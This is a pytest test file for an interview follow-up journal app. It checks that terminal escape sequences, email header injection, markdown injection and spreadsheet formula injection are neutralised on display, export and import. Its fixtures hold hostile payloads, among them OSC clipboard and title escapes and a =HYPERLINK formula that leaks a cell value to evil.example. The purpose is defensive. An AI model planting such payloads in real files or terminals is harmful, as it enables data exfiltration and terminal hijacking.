"""Text from people and files is shown as text: no terminal control, no markup, in the app and
on the command line; machine formats escape what their spec asks; values that enter the journal
pass one set of checks, whichever door they come through."""

from __future__ import annotations

import json
import shutil
import subprocess
from datetime import date, timedelta
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from icalendar import Calendar

from followup_tui.domain.text import CONTROLS, json_escaped, visible
from followup_tui.domain.values import ValueRefused
from followup_tui.services.calendar import planned_ics
from followup_tui.services.compose import Message, eml_bytes, save_draft
from followup_tui.services.export import debriefs_markdown, markdown_text
from followup_tui.services.followups import add_by_names
from followup_tui.services.portable import JournalFileError, export_json, import_json
from followup_tui.services.settings import change
from followup_tui.services.vcard import contacts_to_vcard
from followup_tui.store import Store
from followup_tui.terminal import shown

from .helpers import run_followup

OSC_TITLE = "\x1b]0;PWNED\x07"
OSC_CLIPBOARD = "\x1b]52;c;aGVsbG8=\x07"
CLEAR = "\x1b[2J"
C1_CSI = "\x9b31m"
HOSTILE = f"Acme {OSC_TITLE} [/] [@click=app.quit] {OSC_CLIPBOARD} {CLEAR} {C1_CSI} [EU]\r end"

TERMINAL_BYTES = [b"\x1b", b"\x07", b"\r", b"\xc2\x9b", b"\xc2\x9d", b"\x00"]
"""What must never reach a terminal from stored text: ESC, BEL, CR, and C1 CSI/OSC as UTF-8."""


def no_terminal_control(output: bytes) -> bool:
    return not any(byte in output for byte in TERMINAL_BYTES)


# -- the rule itself -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "typed, shown_as",
    [
        ("\x1b]0;title\x07", "␛]0;title␇"),
        ("\x1b[2J", "␛[2J"),
        ("a\x9bb", "a\ufffdb"),
        ("a\x7fb", "a␡b"),
        ("line\r\nnext\rthird", "line\nnext\nthird"),
        ("tab\there", "tab\there"),
        ("lone \udcff surrogate", "lone \ufffd surrogate"),
        ("[bold]Eve[/] 🙂 面接", "[bold]Eve[/] 🙂 面接"),
    ],
)
def test_control_characters_are_shown_as_pictures_and_everything_else_as_typed(typed: str, shown_as: str):
    assert visible(typed) == shown_as


@given(st.text())
def test_nothing_visible_holds_a_control_character_or_a_surrogate(text: str):
    for out in (visible(text), visible(text, lines=False), shown(text)):
        assert not any(ord(char) in CONTROLS and char not in "\n\t" for char in out)
        out.encode("utf-8")  # no unpaired surrogate
    assert "\n" not in visible(text, lines=False)


@given(st.text())
def test_json_escaping_keeps_the_data_and_drops_every_terminal_byte(text: str):
    document = json_escaped(json.dumps({"value": text}, ensure_ascii=False))
    assert json.loads(document) == {"value": text}
    assert no_terminal_control(document.encode("utf-8"))


# -- any text through the services --------------------------------------------------------------


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=st.text(min_size=1, max_size=60))
def test_any_text_saved_comes_back_identical_and_shows_without_a_control_byte(store: Store, text: str):
    subject = f"s{text}"
    try:
        _, followup, _ = add_by_names(store, subject, date(2026, 11, 27), f"Co{text}")
    except ValueRefused as refused:
        assert any(0xD800 <= ord(char) <= 0xDFFF for char in text), refused  # only text no file can hold
        return
    save_draft(store, followup.id, followup.subject, body := f"Dear {text}\n{text}")
    back = store.get_followup(followup.id)
    assert back.subject == followup.subject  # as the service stored it (trimmed), read back exactly
    assert back.body == body  # a message body is kept exactly as written
    opportunity = store.get_opportunity(back.opportunity_id)
    assert opportunity.company.startswith("Co")
    from followup_tui.services.reports import due_report

    listed = [item for item in store.planned_followups_due(None, None) if item.followup.id == followup.id]
    assert listed
    report = due_report([_due_item(entry) for entry in listed], date(2026, 11, 26), 7, as_json=False)
    assert no_terminal_control(shown(report).encode("utf-8"))
    ics = planned_ics(store).text
    assert no_terminal_control(ics.replace("\r\n", "\n").encode("utf-8"))


def _due_item(entry):
    from followup_tui.store.reader import DueItem

    f = entry.followup
    return DueItem(f.id, f.due_on, f.kind, f.subject, entry.company, entry.role, entry.contact_name)


# -- the command line --------------------------------------------------------------------------


def followup(*args: str, db: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    """The real `followup` entry point, as a user runs it, output captured as bytes (a pipe)."""
    return run_followup("--db", str(db), *args, env=env)


@pytest.fixture
def hostile_journal(tmp_path: Path) -> Path:
    db = tmp_path / "hostile.db"
    assert (
        followup(
            "add", f"Subject {HOSTILE}", "--due", "tomorrow", "--company", HOSTILE, "--new-company", db=db
        ).returncode
        == 0
    )
    assert followup("settings", "me.signature", f"Sig {HOSTILE}", db=db).returncode == 0
    card = tmp_path / "card.vcf"
    card.write_text(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Eve \x1b]0;PWNED\x07 [/]\r\nN:Eve;;;;\r\n"
        "NOTE:clip \x1b]52;c;aGVsbG8=\x07 here\r\nEND:VCARD\r\n",
        encoding="utf-8",
    )
    assert followup("import", "vcard", str(card), db=db).returncode == 0
    return db


@pytest.mark.slow
@pytest.mark.parametrize(
    "args",
    [
        ["due"],
        ["due", "--within", "30"],
        ["settings"],
        ["search", "Subject"],
        ["export", "markdown"],
        ["export", "ics"],
        ["export", "vcard"],
        ["export", "json"],
        ["add", "x", "--due", f"tomorrow {OSC_TITLE}"],
        [f"no-such-{OSC_TITLE}"],
        ["search", OSC_TITLE],
        ["--db", f"/nonexistent/{OSC_TITLE}/j.db", "due"],
    ],
    ids=lambda args: " ".join(args)[:30],
)
def test_no_command_prints_a_control_character_from_stored_or_typed_text(hostile_journal: Path, args: list[str]):
    done = followup(*args, db=hostile_journal)
    assert b"Traceback" not in done.stderr
    assert no_terminal_control(done.stdout.replace(b"\r\n", b"\n")), done.stdout[-400:]
    assert no_terminal_control(done.stderr), done.stderr


@pytest.mark.slow
def test_the_machine_formats_keep_the_data_but_not_the_control_bytes(hostile_journal: Path):
    exported = followup("export", "json", db=hostile_journal).stdout
    tables = json.loads(exported)["tables"]
    assert any(row["company"] == " ".join(HOSTILE.split()) for row in tables["opportunities"])  # as stored
    calendar = Calendar.from_ical(followup("export", "ics", db=hostile_journal).stdout)
    [event] = calendar.walk("VEVENT")
    assert "PWNED" in str(event["summary"]) and "\x1b" not in str(event["summary"])
    assert b"\x1b" not in followup("export", "vcard", db=hostile_journal).stdout


def test_an_answer_cannot_change_the_markdown_documents_structure(demo_store: Store):
    assert markdown_text("## not a heading\n- not a list\n```\n> not a quote\n1. nor this") == (
        "\\## not a heading  \n\\- not a list  \n\\```  \n\\> not a quote  \n\\1. nor this"
    )
    document = debriefs_markdown(demo_store)
    headings = [line for line in document.splitlines() if line.startswith("#")]
    assert all(line.startswith(("# Interview journal", "## ", "### ")) for line in headings)


def test_markdown_keeps_an_answers_lines_and_a_real_parser_finds_only_our_structure():
    from markdown_it import MarkdownIt

    answer = "Line one\nLine two\n## not a heading\n- not a list\n\nA second paragraph"
    tokens = MarkdownIt().parse(markdown_text(answer))
    kinds = [token.type for token in tokens]
    assert "heading_open" not in kinds and "bullet_list_open" not in kinds
    assert kinds.count("paragraph_open") == 2
    first = next(token for token in tokens if token.type == "inline")
    assert [child.type for child in first.children].count("hardbreak") == 3, "each line kept, not run together"


def test_a_message_header_never_carries_a_line_break_and_any_body_saves():
    message = Message("eve@example.com\nBcc: all@example.com", "Thanks\r\nX-Evil: 1", "Body \udcff end")
    assert message.to == "eve@example.com Bcc: all@example.com"
    assert message.subject == "Thanks X-Evil: 1"
    raw = eml_bytes(message)
    assert b"\nX-Evil" not in raw and b"\nBcc" not in raw


# -- values that enter the journal -----------------------------------------------------------


def test_a_setting_refuses_text_no_file_can_hold(store: Store):
    with pytest.raises(ValueError, match="not text"):
        change(store, "me.signature", "Best, \udcff")
    assert store.get_setting("me.signature", "") == ""


def exported(store: Store) -> dict:
    return json.loads(export_json(store))


def assert_refused_whole(document: dict, path: Path, clock, says: str) -> None:
    """Importing `document` into a new journal is refused with `says`, and writes nothing."""
    target = Store.open(path, clock)
    try:
        with pytest.raises(JournalFileError, match=says):
            import_json(target, json.dumps(document))
        assert not target.holds_anything()
    finally:
        target.close()


@pytest.mark.parametrize(
    "table, column, value, says",
    [
        ("followups", "due_on", "not-a-date", "due_on should be a day"),
        ("followups", "kind", "begging", "kind should be one of"),
        ("followups", "done_at", "2026-11-26T09:00:00", "has no time zone"),
        ("interviews", "starts_at", "garbage o'clock", "starts_at should be a moment"),
        ("opportunities", "status", "vanished", "status should be one of"),
        ("debriefs", "satisfaction", 9, "satisfaction should be a number from 1 to 5"),
        ("contacts", "email", "not an email", "email"),
        ("contacts", "name", 42, "name should be text"),
    ],
)
def test_an_import_with_one_bad_value_imports_nothing_and_names_the_record_and_field(
    demo_store: Store, tmp_path: Path, clock, table: str, column: str, value, says: str
):
    document = exported(demo_store)
    document["tables"][table][0][column] = value
    assert_refused_whole(document, tmp_path / "new.db", clock, f"{table} row 1.*{says}")


@pytest.mark.parametrize(
    "key, value, says",
    [
        ("cadence.spacing_business_days", "five", "whole number"),
        ("nudge_min_active", 9000, "0 to 365"),
        ("date_order", "sideways", "takes one of"),
        ("me.email", "nobody", "email"),
        ("no.such.setting", 1, "not a setting"),
        ("templates", {"mine": {"kind": "begging", "subject": "", "body": ""}}, "unknown kind"),
    ],
)
def test_an_import_refuses_a_setting_the_settings_screen_would_refuse(
    demo_store: Store, tmp_path: Path, clock, key: str, value, says: str
):
    document = exported(demo_store)
    document["tables"]["settings"] = [{"key": key, "value": json.dumps(value)}]
    assert_refused_whole(document, tmp_path / "new.db", clock, f"settings row 1.*{says}")


def test_deeply_nested_json_is_refused_in_one_line(store: Store):
    with pytest.raises(JournalFileError, match="nested far too deeply"):
        import_json(store, "[" * 100_000 + "]" * 100_000)


def test_a_contact_card_exports_without_control_characters(store: Store):
    from followup_tui.domain.models import Contact

    card = contacts_to_vcard([Contact(name=f"Eve {OSC_TITLE}", notes=f"one\ntwo {CLEAR}", email="eve@example.com")])
    assert "\x1b" not in card and "\x07" not in card
    assert "one\\ntwo" in card  # a note keeps its line breaks, escaped as vCard says


def test_planned_ics_counts_what_it_wrote(demo_store: Store):
    exported = planned_ics(demo_store)
    events = Calendar.from_ical(exported.text).walk("VEVENT")
    assert exported.planned + exported.done + exported.interviews == len(events) and exported.planned > 0
    assert exported.planned == demo_store.count_planned_due(None, None)
    assert exported.done == sum(1 for e in events if e.get("STATUS") == "CONFIRMED") > 0


def test_a_follow_up_due_far_ahead_still_exports(store: Store):
    add_by_names(store, "Far", date(2026, 11, 26) + timedelta(days=3000), "Initech")
    assert planned_ics(store).planned == 1


# -- spreadsheets --------------------------------------------------------------------------------

LINK = '=HYPERLINK("http://evil.example/?leak="&B3,"Click me")'
FORMULAS = {
    "company": LINK,
    "title": "=1+2",
    "name": "@SUM(1+1)",
    "phone": "+44 20 7946 0000",
    "email": "-2+3@evil.example",
}
"""A card as an attacker would send it: each field a formula a spreadsheet would run."""


@pytest.fixture
def formula_journal(db_path: Path, tmp_path: Path) -> Path:
    """A journal holding a card imported from a vCard whose fields are formulas."""
    from click.testing import CliRunner

    from followup_tui.cli import cli

    card = (
        "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:evil-1\r\n"
        f"FN:{FORMULAS['name']}\r\nORG:{FORMULAS['company'].replace(',', chr(92) + ',')}\r\n"
        f"TITLE:{FORMULAS['title']}\r\nTEL:{FORMULAS['phone']}\r\nEMAIL:{FORMULAS['email']}\r\nEND:VCARD\r\n"
    )
    (tmp_path / "evil.vcf").write_text(card)
    imported = CliRunner().invoke(cli, ["import", "vcard", str(tmp_path / "evil.vcf"), "--db", str(db_path)])
    assert imported.exit_code == 0, imported.output
    return db_path


def csv_export(db: Path, *args: str):
    from click.testing import CliRunner

    from followup_tui.cli import cli

    return CliRunner().invoke(cli, ["export", "csv", "contacts", *args, "--db", str(db)])


def test_a_cell_that_starts_like_a_formula_is_written_as_text(formula_journal: Path):
    import csv
    import io

    text = csv_export(formula_journal).stdout
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert {key: row[key] for key in FORMULAS} == {key: "'" + value for key, value in FORMULAS.items()}
    assert row["has_my_details"] == "no" and row["id"].isdigit(), "other cells as they were"
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines()), (
        "every field quoted, so a spreadsheet reading ; or tab as the separator never splits a cell"
    )


OWASP_FORMULA_STARTS = "=+-@\t\r"
"""OWASP's "CSV Injection" list of what a spreadsheet may evaluate when a cell starts with it,
written out here on its own so the test does not take the code's word for it."""


@settings(max_examples=300)
@given(st.text(alphabet=st.sampled_from([*OWASP_FORMULA_STARTS, " ", "\n", "a", "1", "'", "(", "＝"]), max_size=8))
def test_no_cell_starts_like_a_formula_and_the_text_is_all_there(text: str):
    from followup_tui.services.records_table import spreadsheet_cell

    cell = spreadsheet_cell(text)
    assert cell in (text, "'" + text), "the text is all there"
    first = next((char for char in text if char not in " \t\r\n"), "")
    if first and first in "=+-@＝":
        assert cell == "'" + text, f"{text!r} would be evaluated"
    elif not first:
        assert cell == text, "only blanks: nothing to evaluate, nothing added"


def test_numbers_the_journal_keeps_stay_numbers_in_a_spreadsheet():
    from followup_tui.services.records_table import spreadsheet_cell

    assert spreadsheet_cell(-3) == -3 and spreadsheet_cell(True) is True


def test_excel_gets_a_byte_order_mark_and_everyone_else_none(formula_journal: Path, tmp_path: Path):
    assert not csv_export(formula_journal).stdout.startswith("\ufeff")
    assert csv_export(formula_journal, "--excel").stdout.startswith('\ufeff"id","name"')
    assert csv_export(formula_journal, "--excel", "-o", str(tmp_path / "c.csv")).exit_code == 0
    assert (tmp_path / "c.csv").read_bytes().startswith(b'\xef\xbb\xbf"id"')


@pytest.mark.slow
@pytest.mark.skipif(
    shutil.which("ssconvert") is None,
    reason="Gnumeric's ssconvert, the real spreadsheet this test opens the export in, is not installed"
    " (Debian: apt-get install gnumeric)",
)
def test_a_real_spreadsheet_shows_the_text_and_computes_no_formula(formula_journal: Path, tmp_path: Path):
    import csv
    import zipfile

    exported = tmp_path / "contacts.csv"
    assert csv_export(formula_journal, "-o", str(exported)).exit_code == 0
    for target in ("values.csv", "book.xlsx"):
        done = subprocess.run(
            ["ssconvert", "--recalc", str(exported), str(tmp_path / target)], capture_output=True, timeout=120
        )
        assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(tmp_path / "book.xlsx") as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet, "no cell of the workbook is a formula"
    with open(tmp_path / "values.csv", newline="", encoding="utf-8") as values:
        [row] = list(csv.DictReader(values))
    assert {key: row[key] for key in FORMULAS} == FORMULAS, "each shows as the text it is: no 3, no Click me"
